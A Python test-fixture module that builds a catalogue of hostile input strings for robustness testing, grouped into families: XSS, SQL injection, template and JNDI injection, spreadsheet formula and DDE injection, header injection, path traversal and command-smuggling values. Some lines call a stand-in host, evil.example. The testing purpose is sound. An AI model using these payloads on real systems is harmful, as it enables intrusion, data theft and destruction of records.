"""Texts that break careless pages, sheets, messages and statements, by family. Each fits a line of a hundred characters."""

from __future__ import annotations

from collections.abc import Sequence

_RUN = "alert(1)"
_HANDLERS = (
    "img src=x onerror", "svg onload", "body onload", "input autofocus onfocus", "details open ontoggle", "video src=x onerror",
    "audio src onerror", "marquee onstart", "iframe onload", "object data=x onerror", "a onmouseover", "div onpointerenter",
    "select autofocus onfocus", "textarea autofocus onfocus", "math onclick", "style onload", "link rel=x href=x onerror",
    "animate onbegin", "embed src=x onload", "form onsubmit", "button popovertarget=x onbeforetoggle", "x tabindex=1 onfocusin",
)  # fmt: skip
_SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "vbscript:",
    "data:text/html,",
    "data:text/html;base64,PHN2Zz4=",
)
_BREAKS = (
    '">', "'>", "</script>", "</SCRIPT >", "</title>", "</textarea>", "</style>", "-->", "]]>", "</h1>", "</body>", "`>", "\\\">",
    "<!--", "</noscript>", "</template>",
)  # fmt: skip
_AGAIN = (
    "<script>",
    "<ScRiPt >",
    "<script/x>",
    "<scr<script>ipt>",
    "<<script>",
    "<script\n>",
    "%3Cscript%3E",
    "&lt;script&gt;",
)

FAMILIES: dict[str, tuple[str, ...]] = {
    "elements": (
        *(f"{first}{_RUN}</script>" for first in _AGAIN),
        "<base href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<plaintext>", "<b>bold</b>",
        "<form action=//evil.example><input name=code>", "<iframe srcdoc='<script>x</script>'>", "<style>*{display:none}</style>",
        "<link rel=stylesheet href=//evil.example/x.css>", "<svg><script>x</script>", "<math><mtext><img src=x onerror=x>",
        "<noscript><p title='</noscript><img src=x onerror=x>'>", "<svg><style><img src=x onerror=x></style>",
    ),
    "handlers": tuple(f"<{one}={_RUN}>" for one in _HANDLERS),
    "attributes": tuple(dict.fromkeys(f"{quote} {one.split(' ')[-1]}={_RUN} x={quote}" for one in _HANDLERS for quote in ('"', "'"))),
    "breaks": tuple(f"{one}<img src=x onerror={_RUN}>" for one in _BREAKS),
    "addresses": (
        *(f"{one}{_RUN}" for one in _SCHEMES), *(f"<a href='{one}{_RUN}'>x</a>" for one in _SCHEMES),
        "[点我](javascript:alert(1))", "[退款](https://evil.example)", "![x](//evil.example/x.png)", "<https://evil.example>", "<@all>",
        "**团长**\n# 平台通知", "<font color='warning'>已退款</font>",
    ),
    "json": (
        '","admin":true,"x":"', '"}</script><script>x</script>', "\\u003cscript\\u003e", "x\u2028alert(1)\u2029x", "'-alert(1)-'",
        "';alert(1)//", '";alert(1)//', "\\';alert(1)//", "${alert(1)}", "`${alert(1)}`", "</script/x", "<!--<script>", "json\\", '\\"', "{}",
        "[]", "null", "undefined", "NaN", "__proto__", "constructor", "toString",
    ),
    "templates": (
        "{{7*7}}", "{{constructor.constructor('alert(1)')()}}", "{% debug %}", "{{request}}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
        "${jndi:ldap://evil.example/x}", "%s%s%n", "%(x)s", "{0.__class__}", "{self.__init__.__globals__}", "$x$", "@{7*7}", "*{7*7}",
        "{%raw%}", "{{'a'|safe}}", "[[7*7]]", "x-data={alert(1)}", "@click=alert(1)", "\\1\\g<0>",
    ),
    "statements": (
        "'; DROP TABLE orders_order; --", "' OR '1'='1", '" OR ""="', "1) OR 1=1 --", "'; SELECT pg_sleep(9); --", "%' OR 1=1 --", "_%_%",
        "' UNION SELECT token_hash FROM identity_session --", "\\'; DELETE FROM x; --", "1; ATTACH DATABASE '/tmp/x' AS x", "a\\", "$$;$$",
        "E'\\x27'", "NULL", "(SELECT 1)", "' || (SELECT 1) || '", "COPY x TO PROGRAM 'id'", "{1,2}", '{"a"', "\\N", "\\.",
    ),
    "formulas": (
        "=1+1", "=HYPERLINK(\"//evil.example\",\"x\")", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0", "=IMPORTXML(\"//evil.example\",\"//a\")", "=WEBSERVICE(\"//evil.example\")", "＝1+1", "；=1+1",
        "=DDE(\"cmd\";\"/C calc\";\"x\")", "{=1+1}", "'=1+1", "\"=1+1\"", "=1+1\n=2+2", "_x0041_", "x\t=1+1", "https://evil.example",
    ),
    "lines": (
        "x\r\nSet-Cookie: a=b", "x\r\n\r\n<script>x</script>", "x\nBcc: all@evil.example", "x\r\nContent-Type: text/html", "x%0d%0aA: b",
        "2026-01-01 ERROR root: x\nTraceback", "x\x1b[31mred\x1b[0m", "x\x08\x08\x08", "x\x7f", "x\x0by", "x\x85y", "a\u2028b",
    ),
    "files": (
        "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\boot.ini", "file:///etc/passwd", "....//....//x",
        "x.php\x0c.jpg", "$(id)", "`id`", "|id", "; id", "&& id", "CON", "AUX.txt", "x/../../y", "%2e%2e%2f",
    ),
    "letters": (
        "👨\u200d👩\u200d👧\u200d👦一家", "𠮷野家𡈽", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢", "a\u200bb\u200cc\u200dd", "x\ufeffy", "İstanbul ſ", "ﷺﷺﷺ", "ﬀ ﬁ", "Ω≈ç√∫",
        "١٢٣", "ＦＵＬＬ", "ｱｲｳ", "x\u00a0y", "x\ufffdy", "x\ue000y", "\U0001f1e8\U0001f1f3", "🏴\U000e0067\U000e0062\U000e007f",
        "ab\u00adcd", "x\ufff9y", "＜script＞alert(1)＜/script＞", "‹img src=x›", "ʺ onload=x ʺ",
    ),
}  # fmt: skip
"""Nothing here begins or ends with blanks: those are cut, and every text must come back as it was sent."""

PAYLOADS = tuple(text for family in FAMILIES.values() for text in family)
SHORT = (
    "<b>x</b>", '"><svg onload=x>', "<img src onerror=x>", "</script><script>", "</title><i>", "'onclick=x a='", "{{7*7}}", "=1+1+2",
    "x\nBcc: a@b.cn", "[x](//evil.cn)", "<@all>", "' OR '1'='1",
)  # fmt: skip


def fitting(texts: Sequence[str], longest: int, number: int) -> str:
    """The text of this number, counted round, if the field takes it, else a short one of the same bad faith."""
    text = texts[number % len(texts)]
    return text if 2 <= len(text) <= longest else SHORT[number % len(SHORT)]
